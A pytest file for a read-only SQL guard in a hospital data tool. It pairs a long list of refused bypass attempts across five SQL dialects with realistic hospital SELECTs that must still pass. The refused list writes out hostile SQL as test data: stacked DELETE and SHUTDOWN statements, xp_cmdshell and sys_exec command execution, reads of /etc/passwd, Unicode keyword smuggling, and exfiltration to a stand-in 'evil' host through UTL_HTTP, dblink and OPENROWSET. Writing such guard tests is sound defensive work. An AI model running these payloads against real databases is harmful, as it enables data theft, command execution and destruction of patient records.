"""The custom-SQL guard: every bypass a reviewer would try is refused in one line naming the source,
the key and what was refused; the SELECTs a hospital really writes still pass.

SQL Server and Oracle are checked here by parsing in their sqlglot dialects; the attempts that could
act on PostgreSQL, MariaDB or SQLite are run against those engines in
tests/integration/test_sql_guard_engines.py.
"""

from __future__ import annotations

import pytest

from adapters.registry import custom_preset
from adapters.sqlguard import guard_select
from agent.config import SourceConfig
from agent.errors import ConfigError

# (dialect, SQL, what the refusal names)
BYPASS_ATTEMPTS: list[tuple[str, str, str]] = [
    # executable and optimizer comments
    ("mysql", "SELECT drug_code FROM op_dispense /*! INTO OUTFILE '/tmp/x' */", "executable comment"),
    ("mysql", "SELECT drug_code FROM op_dispense /*!50000 INTO OUTFILE '/tmp/x' */", "executable comment"),
    ("mysql", "SELECT drug_code FROM op_dispense /*M! INTO DUMPFILE '/tmp/x' */", "executable comment"),
    ("oracle", "SELECT /*+ PARALLEL(t 64) */ drug_code FROM rx_detail t", "optimizer hint"),
    ("oracle", "SELECT --+ FULL(t)\n drug_code FROM rx_detail t", "optimizer hint"),
    ("tsql", "SELECT drug_code FROM op_dispense /*! ; DELETE FROM op_dispense */", "executable comment"),
    # a second statement, with and without ';', and ';' hidden by comments or odd characters
    ("tsql", "SELECT 1; DELETE FROM op_dispense", "2 statements"),
    ("tsql", "SELECT 1 DELETE FROM op_dispense", "'DELETE' is a statement word"),
    ("tsql", "SELECT 1 SHUTDOWN", "'SHUTDOWN' is a statement word"),
    ("tsql", "SELECT 1 AS a SHUTDOWN WITH NOWAIT", "SQL"),
    ("tsql", "SELECT drug_code FROM op_dispense WAITFOR DELAY '00:10:00'", "SQL"),
    ("tsql", "SELECT 1 UPDATE drug_dict SET price = 0", "SQL"),
    ("tsql", "SELECT 1 DROP TABLE op_dispense", "SQL"),
    ("tsql", "SELECT 1 TRUNCATE TABLE op_dispense", "SQL"),
    ("tsql", "SELECT 1 GO DELETE FROM op_dispense", "SQL"),
    ("tsql", "SELECT 1 RECONFIGURE", "'RECONFIGURE' is a statement word"),
    ("tsql", "SELECT 1 KILL", "'KILL' is a statement word"),
    ("tsql", "DECLARE @x INT; SELECT 1", "2 statements"),
    ("tsql", "SELECT 1 -- x\rDELETE FROM op_dispense", "carriage return"),
    ("tsql", "SELECT 1\u200b; DELETE FROM op_dispense", "U+200B"),
    ("tsql", "SELECT 1 AS x\x00DELETE FROM op_dispense", "U+0000"),
    ("tsql", "SELECT 1 AS x\u202eDELETE FROM op_dispense", "U+202E"),
    ("postgres", "SELECT 1; COPY op_dispense TO '/tmp/x'", "2 statements"),
    # a word sqlglot re-writes as something else (SYSTEM_USER comes back as CURRENT_USER())
    ("tsql", "SELECT drug_code, SYSTEM_USER FROM op_dispense", "'SYSTEM_USER' is not part of the SELECT"),
    # look-alike keywords: full-width and Cyrillic letters
    ("tsql", "SELECT 1 ＤＥＬＥＴＥ FROM op_dispense", "look-alike character 'Ｄ'"),
    ("tsql", "SELECT 1 DЕLETE FROM op_dispense", "look-alike character 'Е'"),
    ("tsql", "ЅELECT 1", "look-alike"),
    # not a SELECT at all
    ("tsql", "DELETE FROM op_dispense", "DELETE statement"),
    ("tsql", "UPDATE drug_dict SET price = 0", "UPDATE statement"),
    ("tsql", "EXEC sp_who", "EXECUTE statement"),
    ("tsql", "EXEC xp_cmdshell 'whoami'", "EXECUTE statement"),
    ("tsql", "EXEC('DEL' + 'ETE FROM op_dispense')", "refused"),
    ("tsql", "EXECUTE sp_executesql N'DELETE FROM op_dispense'", "EXECUTESQL statement"),
    ("tsql", "BULK INSERT op_dispense FROM '\\\\evil\\share\\x.csv'", "refused"),
    ("postgres", "COPY op_dispense TO '/tmp/x'", "COPY statement"),
    ("postgres", "COPY (SELECT 1) TO PROGRAM 'id'", "refused"),
    ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", "refused"),
    ("mysql", "PREPARE s FROM CONCAT('DEL', 'ETE FROM t')", "refused"),
    ("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x", "ATTACH statement"),
    ("sqlite", "PRAGMA query_only = OFF", "refused"),
    # a SELECT that writes or locks
    ("tsql", "SELECT drug_code INTO backup_dispense FROM op_dispense", "INTO inside the SELECT"),
    ("tsql", "SELECT drug_code INTO #t FROM op_dispense", "INTO inside the SELECT"),
    ("mysql", "SELECT drug_code FROM op_dispense INTO OUTFILE '/tmp/x'", "SQL"),
    ("postgres", "SELECT * FROM op_dispense FOR UPDATE", "LOCK inside the SELECT"),
    ("oracle", "SELECT * FROM rx_detail FOR UPDATE NOWAIT", "LOCK inside the SELECT"),
    ("mysql", "SELECT * FROM op_dispense LOCK IN SHARE MODE", "LOCK inside the SELECT"),
    ("tsql", "SELECT * FROM op_dispense WITH (UPDLOCK, HOLDLOCK)", "table hint UPDLOCK"),
    ("tsql", "SELECT * FROM op_dispense WITH (TABLOCKX)", "table hint TABLOCKX"),
    ("postgres", "WITH gone AS (DELETE FROM op_dispense RETURNING *) SELECT count(*) FROM gone", "DELETE inside the SELECT"),
    ("postgres", "WITH x AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT * FROM x", "INSERT inside the SELECT"),
    ("postgres", "WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT * FROM x", "UPDATE inside the SELECT"),
    # functions with side effects, or that reach outside the database
    ("postgres", "SELECT set_config('default_transaction_read_only', 'off', false)", "SET_CONFIG()"),
    ("postgres", "SELECT nextval('rx_seq')", "NEXTVAL()"),
    ("postgres", "SELECT setval('rx_seq', 1)", "SETVAL()"),
    ("postgres", "SELECT pg_sleep(600)", "PG_SLEEP()"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')", "PG_READ_FILE()"),
    ("postgres", "SELECT pg_ls_dir('/')", "PG_LS_DIR()"),
    ("postgres", "SELECT lo_export(1, '/tmp/x')", "LO_EXPORT()"),
    ("postgres", "SELECT lo_import('/etc/passwd')", "LO_IMPORT()"),
    ("postgres", "SELECT pg_terminate_backend(1)", "PG_TERMINATE_BACKEND()"),
    ("postgres", "SELECT current_setting('data_directory')", "CURRENT_SETTING()"),
    ("postgres", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "DBLINK()"),
    ("postgres", "SELECT dblink_exec('host=evil', 'DELETE FROM t')", "DBLINK_EXEC()"),
    ("postgres", "SELECT query_to_xml('DEL' || 'ETE FROM op_dispense', true, true, '')", "QUERY_TO_XML()"),
    ("postgres", "SELECT pg_catalog.set_config('x', 'y', false)", "qualified function call"),
    ("mysql", "SELECT LOAD_FILE('/etc/passwd')", "LOAD_FILE()"),
    ("mysql", "SELECT SLEEP(600)", "SLEEP()"),
    ("mysql", "SELECT BENCHMARK(100000000, MD5('x'))", "BENCHMARK()"),
    ("mysql", "SELECT sys_exec('id')", "SYS_EXEC()"),
    ("mysql", "SELECT sys_eval('id')", "SYS_EVAL()"),
    ("mysql", "SELECT GET_LOCK('x', 600)", "GET_LOCK()"),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')", "LOAD_EXTENSION()"),
    ("sqlite", "SELECT writefile('/tmp/x', 'a')", "WRITEFILE()"),
    ("sqlite", "SELECT readfile('/etc/passwd')", "READFILE()"),
    ("tsql", "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;Trusted_Connection=yes', 'SELECT 1')", "OPENROWSET()"),
    ("tsql", "SELECT * FROM OPENQUERY(evil, 'DELETE FROM t')", "OPENQUERY()"),
    ("tsql", "SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').db.dbo.t", "refused"),
    ("tsql", "SELECT xp_cmdshell('whoami')", "XP_CMDSHELL()"),
    ("tsql", "SELECT master.dbo.xp_cmdshell('whoami')", "qualified function call"),
    ("tsql", "SELECT NEXT VALUE FOR rx_seq", "NEXT_VALUE_FOR()"),
    ("oracle", "SELECT UTL_HTTP.REQUEST('http://evil/' || drug_code) FROM rx_detail", "qualified function call"),
    ("oracle", "SELECT UTL_FILE.FOPEN('/tmp', 'x', 'w') FROM dual", "qualified function call"),
    ("oracle", "SELECT dbms_lock.sleep(600) FROM dual", "qualified function call"),
    ("oracle", "SELECT dbms_pipe.receive_message('x', 600) FROM dual", "qualified function call"),
    ("oracle", "SELECT SYS.DBMS_SCHEDULER.RUN_JOB('x') FROM dual", "qualified function call"),
    ("oracle", "SELECT dbms_xmlgen.getxml('DELETE FROM t') FROM dual", "qualified function call"),
    ("oracle", "SELECT rx_seq.NEXTVAL FROM dual", "sequence access"),
    ("oracle", "SELECT drug_code FROM rx_detail@evil_link", "database link"),
    ("oracle", "SELECT my_pkg_write_audit(drug_code) FROM rx_detail", "MY_PKG_WRITE_AUDIT()"),
]

# Shaped like what hospitals really write: SQL Server with NOLOCK hints and Chinese names, Oracle with
# DECODE/NVL/TRUNC, ';' and comment text inside literals, a trailing ';'.
HOSPITAL_SELECTS: list[tuple[str, str]] = [
    # type words as column names, as HIS tables name them (a false refusal found by the query template)
    ("postgres", "SELECT t.name AS name, t.date AS day, t.text AS note, t.time FROM drug t"),
    ("mysql", "SELECT d.name, d.date, d.type FROM drug_dict d"),
    ("tsql", """SELECT CONVERT(date, m.fyrq) AS day, m.ypdm AS item_code, m.ksdm AS dept_code, 'outpatient' AS setting,
       SUM(ISNULL(m.sl, 0) * m.dwxs) AS quantity, SUM(m.je) AS amount, COUNT(*) AS lines
  FROM mz_fyjl m WITH (NOLOCK) INNER JOIN yk_ypcd y ON y.ypdm = m.ypdm  -- 门诊发药, 作废的不算
 WHERE m.fyrq >= :day_from AND m.fyrq < :day_to_next AND m.zfbz = 0
 GROUP BY CONVERT(date, m.fyrq), m.ypdm, m.ksdm
 ORDER BY day ASC;"""),
    ("tsql", "SELECT TOP 100 a.id AS line_id, a.[date], LTRIM(RTRIM(a.name)) name, CASE WHEN a.x IS NOT NULL THEN 1 ELSE 0 END "
             "flag, DATEADD(day, 1, a.d) d1, DATEDIFF(day, a.d, GETDATE()) age, LEN(a.b) n, CHARINDEX('x', a.b) p, "
             "SUBSTRING(a.b, 1, 2) s, CAST(a.p AS DECIMAL(18, 4)) price FROM dbo.drug a LEFT OUTER JOIN u b ON a.id = b.id "
             "WHERE a.name LIKE '%（片）%' AND a.id IN (SELECT id FROM v) ORDER BY a.id DESC"),
    ("tsql", "SELECT a.药品编码 AS code, a.药品名称 AS name, a.规格 AS spec FROM 药品字典 a WHERE a.停用 = 0"),
    ("tsql", "WITH x AS (SELECT a, ROW_NUMBER() OVER (PARTITION BY a ORDER BY b DESC) rn FROM t) SELECT a FROM x WHERE rn = 1"),
    ("tsql", "SELECT ';DELETE FROM op_dispense' AS note, '/* not a comment */' AS c, 'SHUTDOWN' AS w"),
    ("tsql", "SELECT [delete] AS flag, [user] AS who FROM op_dispense /* the column really is called delete */"),
    ("tsql", "SELECT a FROM x WHERE d >= :day_from UNION ALL SELECT b FROM y"),
    ("tsql", "SELECT a.id FROM op_dispense a WITH (NOLOCK, INDEX(ix_fyrq)) JOIN drug_dict d WITH (READUNCOMMITTED) ON d.id = a.id"),
    ("tsql", "SELECT a.id FROM t a CROSS JOIN u b WHERE NOT EXISTS (SELECT 1 FROM v WHERE v.id = a.id) AND a.x BETWEEN 1 AND 2"),
    ("tsql", "SELECT CAST(SUM(CASE WHEN a.lx = 1 THEN a.sl ELSE 0 END) AS NUMERIC(18, 2)) AS q, COUNT(DISTINCT a.id) n "
             "FROM t a HAVING COUNT(*) > 0"),
    ("oracle", "SELECT TRUNC(t.fyrq) AS day, NVL(t.sl, 0) q, DECODE(t.lx, 1, 'outpatient', 'inpatient') s, "
               "TO_CHAR(t.d, 'YYYY-MM-DD') d, SUBSTR(t.x, 1, 3) x3, INSTR(t.x, 'a') i FROM his.fy t "
               "WHERE t.fyrq >= :day_from AND ROWNUM <= 10"),
    ("postgres", "SELECT a::date, COALESCE(b, 0), date_trunc('day', c), to_char(c, 'YYYY') FROM t "
                 "WHERE c >= :since_ts ORDER BY c, id LIMIT :limit"),
    ("mysql", "SELECT DATE(a), IFNULL(b, 0), DATE_FORMAT(c, '%Y'), GROUP_CONCAT(d) FROM t GROUP BY 1 LIMIT 10"),
    ("sqlite", "SELECT date(a), ifnull(b, 0), strftime('%Y', c) FROM t"),
]


@pytest.mark.parametrize("dialect,sql,what", BYPASS_ATTEMPTS, ids=[f"{d}:{s[:40]}" for d, s, _ in BYPASS_ATTEMPTS])
def test_every_bypass_attempt_is_refused_in_one_line_naming_the_key_and_what(dialect: str, sql: str, what: str) -> None:
    with pytest.raises(ConfigError) as err:
        guard_select(sql, dialect, "sources[his].queries.usage")
    message = str(err.value)
    assert message.startswith("sources[his].queries.usage: ")
    assert "\n" not in message
    assert what in message


@pytest.mark.parametrize("dialect,sql", HOSPITAL_SELECTS, ids=[f"{d}:{s[:40]}" for d, s in HOSPITAL_SELECTS])
def test_the_selects_a_hospital_writes_still_pass(dialect: str, sql: str) -> None:
    guard_select(sql, dialect, "k")


def _custom(**queries: str) -> SourceConfig:
    return SourceConfig(name="myhis", kind="his", preset="custom", connection="Driver={SQLite3};Database=x",
                        queries=queries, options={"dialect": "tsql"})


def test_a_source_with_several_refused_queries_names_each_of_them() -> None:
    with pytest.raises(ConfigError) as err:
        custom_preset(_custom(usage="SELECT 1; DELETE FROM t", day_totals="SELECT 1 SHUTDOWN", items="SELECT 1"))
    assert err.value.problems == [
        "sources[myhis].queries.usage: must be exactly one SELECT that only reads; refused: 2 statements separated by ';'",
        "sources[myhis].queries.day_totals: must be exactly one SELECT that only reads; refused: 'SHUTDOWN' is a "
        "statement word read as a name; quote it if it is a column",
    ]
